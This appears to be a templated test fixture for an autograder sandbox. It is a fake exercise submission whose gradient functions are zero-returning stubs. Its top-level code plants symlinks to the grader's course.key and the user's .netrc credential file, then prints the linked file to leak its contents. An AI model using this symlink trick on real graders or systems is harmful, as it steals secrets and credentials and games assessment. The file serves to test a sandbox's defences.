"""A link that leads out of the folder is left for the grader to follow."""

import os

EXERCISE = "02"
OUTCOMES = {"failed"}
FLOOR = 0
CONTROL = "evidence: the link can be read through"

try:
    os.symlink("@TARGET@/course/.autograder/course.key", "results.html")
    os.symlink("@TARGET@/home/.netrc", "@DROP@/@MARK@")
except OSError:
    pass
try:
    with open("results.html") as file:
        print(file.read(), flush=True)
except OSError:
    pass


def peaks(x, y):
    return 0 * x


def peaks_gradient(x, y):
    return 0 * x, 0 * y


def sympy_gradient(expression):
    return expression, expression


def ascend_by_sign(gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)


def ascend_by_negation(descend, gradient, start, learning_rate, epochs):
    return [[0.0, 0.0]] * (epochs + 1)
